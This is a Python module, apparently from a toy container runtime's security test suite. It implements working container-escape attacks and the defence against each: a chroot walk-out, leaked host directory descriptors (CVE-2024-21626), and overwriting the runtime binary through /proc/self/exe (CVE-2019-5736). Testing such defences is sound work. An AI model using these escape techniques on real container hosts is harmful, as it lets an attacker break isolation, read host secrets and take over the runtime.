"""Out of the root: a second chroot, a directory left open, the runtime's own binary."""

from __future__ import annotations

import os
import shutil
import sys
from functools import partial

from minicontainer import linux
from minicontainer.chroot import Chroot, PivotRoot
from minicontainer.container import DEVNULL, Container, Inside, Part
from minicontainer.errors import ContainerError
from minicontainer.namespaces import Namespaces
from minicontainer.security.breakouts.frame import VIEWS, BreakOut, Outcome, docker, trying
from minicontainer.security.shield import Shield

TYPE_CHECKING = False
if TYPE_CHECKING:
    from collections.abc import Sequence


class ChrootEscape(BreakOut):
    """chroot moves a pointer, and keeps no list of directories that lie outside. Whoever may call it once more, holding
    on to the directory above, walks out by `..`. chroot(2) says so itself."""

    title = "chroot, once more"
    defence = "PivotRoot: nothing else is mounted"

    def naive(self) -> list[Part]:
        return [Namespaces("pid", "mount"), Chroot(self.rootfs)]

    def __call__(self, parts: Sequence[Part]) -> Outcome:
        return self.stolen(self.inside(partial(_walk_out, f"{self.directory}/secret"), parts))


def _walk_out(secret: str) -> str:
    def attack() -> str:
        name = f".out-{os.getpid()}"
        os.mkdir(name)
        try:
            linux.chroot(name)  # the current directory is now outside of the root
        finally:
            if os.path.isdir(name):
                os.rmdir(name)
        for _ in range(64):
            linux.chdir("..")
        linux.chroot(".")
        with open(secret) as file:
            return file.read()

    return trying(attack)


class _Careless(Part):
    """A runtime that opened a directory of the host and forgot it; `to_the_end`: so that exec keeps it, too."""

    def __init__(self, path: str, to_the_end: bool) -> None:
        self.path, self.to_the_end, self.fd = path, to_the_end, -1

    def mount(self, inside: Inside) -> None:
        self.fd = os.open(self.path, os.O_PATH | os.O_DIRECTORY)
        os.set_inheritable(self.fd, True)

    def seal(self, inside: Inside) -> None:
        if self.to_the_end:
            inside.at_exec.append(lambda: os.set_inheritable(self.fd, True))


class LeakedDescriptor(BreakOut):
    """A directory of the host that is still open when the command starts is a door: a path that begins at it never
    meets the root. runc leaked one of its own."""

    title = "a directory left open"
    cve = "CVE-2024-21626"
    defence = "everything above 2 is closed when the command executes, whoever opened it"

    def naive(self) -> list[Part]:
        return [Namespaces(*VIEWS), PivotRoot(self.rootfs), _Careless(self.directory, True)]

    def default(self) -> list[Part]:
        return [*docker(self.rootfs), _Careless(self.directory, False)]

    def __call__(self, parts: Sequence[Part]) -> Outcome:
        script = "for fd in /proc/self/fd/*; do cat $fd/secret 2>/dev/null; done; true"
        return self.stolen(Container(["sh", "-c", script], *parts).output(timeout=30))


class LeakedDirectory(BreakOut):
    """The same by an image's config: its working directory is /proc/self/fd/7. The kernel follows that link to where
    it leads, outside, and the command starts there."""

    title = "a working directory outside"
    cve = "CVE-2024-21626"
    defence = "getcwd(2) fails for a directory outside the root: looked at before the command executes"

    def naive(self) -> list[Part]:
        return [Namespaces(*VIEWS), PivotRoot(self.rootfs), _ChangeDirectory(self.directory)]

    def default(self) -> list[Part]:
        return [*docker(self.rootfs), _Careless(self.directory, False)]

    def __call__(self, parts: Sequence[Part]) -> Outcome:
        found = Outcome(False, "")
        for number in ("", *range(3, 12)):
            cwd = f"/proc/self/fd/{number}" if number else "/"
            try:
                text = Container(["sh", "-c", "cat secret 2>/dev/null || true"], *parts, cwd=cwd).output(timeout=30)
            except ContainerError as error:
                text = error.message
            found = self.stolen(text)
            if found:
                break
        return found


class _ChangeDirectory(Part):
    """A runtime that changes into the image's working directory and does not look where that is."""

    def __init__(self, path: str) -> None:
        self.path, self.fd = path, -1

    def mount(self, inside: Inside) -> None:
        self.fd = os.open(self.path, os.O_PATH | os.O_DIRECTORY)

    def seal(self, inside: Inside) -> None:
        linux.chdir(f"/proc/self/fd/{self.fd}")


class RuntimeOverwrite(BreakOut):
    """A runtime's own program runs for a moment inside the container it enters, and /proc/PID/exe leads to its file on
    the host, past every root. Whoever holds on to that link may write to it when the program has ended: the next
    container is started by the attacker's."""

    title = "overwriting the runtime through /proc/self/exe"
    cve = "CVE-2019-5736"
    defence = "the program is executed from a read-only mount that no directory shows"

    def lay(self) -> None:
        self.runtime = f"{self.directory}/runtime"
        shutil.copy(f"{self.rootfs}/bin/busybox", self.runtime)
        os.chmod(self.runtime, 0o755)
        self.before = os.stat(self.runtime).st_size
        # the image's shell is a link to whatever executes it
        os.mkdir(f"{self.rootfs}/{self.token}")
        os.symlink(f"/proc/self/fd/{_AT}", f"{self.rootfs}/{self.token}/sh")
        self.afterwards(lambda: shutil.rmtree(f"{self.rootfs}/{self.token}"))

    def naive(self) -> list[Part]:
        return [Namespaces(*VIEWS), PivotRoot(self.rootfs), _Enter(self.runtime, closed=False)]

    def default(self) -> list[Part]:
        return [*docker(self.rootfs), _Enter(self.runtime, closed=True)]

    def __call__(self, parts: Sequence[Part]) -> Outcome:
        # The shell is the runtime's own program. A child holds on to that, waits until nobody executes it, and writes.
        script = "exec 9</proc/self/exe; /bin/sh -c 'for n in 1 2 3 4 5 6 7 8 9; do /bin/sleep 0.1; "
        script += "echo overwritten >/proc/self/fd/9; done' 2>/dev/null & exec /bin/sleep 1.2"
        container = Container([f"/{self.token}/sh", "-c", script], *parts)
        try:
            container.run(stdin=DEVNULL, stdout=DEVNULL, stderr=DEVNULL, timeout=30)
            said = "it could not be written"
        except ContainerError as error:
            said = error.message
        changed = os.stat(self.runtime).st_size != self.before
        return Outcome(changed, "the decoy of a runtime was overwritten" if changed else said)


_AT = 63


class _Enter(Part):
    """A runtime that executes its own program inside: from the host's mount, or from one that is closed to writers."""

    def __init__(self, program: str, closed: bool) -> None:
        self.program, self.closed = program, closed

    def mount(self, inside: Inside) -> None:
        fd = sealed(self.program) if self.closed else linux.open(self.program, os.O_PATH)
        os.dup2(fd, _AT)
        os.close(fd)


class RuntimeInReach(BreakOut):
    """What stays of the engine inside, here a PID 1 of ours that reaps orphans, is executed from the host's file:
    whoever may look at it in /proc has that file open. The attack stops there: it reads, and does not write."""

    title = "the engine's own PID 1"
    cve = "CVE-2019-5736"
    defence = "Shield: our processes inside are not dumpable"

    def lay(self) -> None:
        with open(os.path.realpath(sys.executable), "rb") as file:
            self.program = file.read()

    def naive(self) -> list[Part]:
        return [part for part in docker(self.rootfs) if not isinstance(part, Shield)]

    def __call__(self, parts: Sequence[Part]) -> Outcome:
        with open(f"{self.directory}/copy", "w+b") as copy:
            Container(["sh", "-c", "cat /proc/1/exe || true"], *parts, init=True).run(
                stdin=DEVNULL, stdout=copy, stderr=DEVNULL, timeout=30
            )
            copy.seek(0)
            same = copy.read() == self.program
        return Outcome(same, "it has the engine's interpreter open" if same else "/proc/1/exe: permission denied")


def sealed(program: str) -> int:
    """A descriptor of a program on a detached mount that is read-only: executed from there, its /proc/self/exe cannot
    be written, whoever follows it. open_tree(2), mount_setattr(2)"""
    fd = linux.open_tree(linux.AT_FDCWD, program, linux.OPEN_TREE_CLONE | linux.OPEN_TREE_CLOEXEC)
    linux.mount_setattr(fd, "", linux.AT_EMPTY_PATH, set_attributes=linux.MOUNT_ATTR_RDONLY)
    return fd
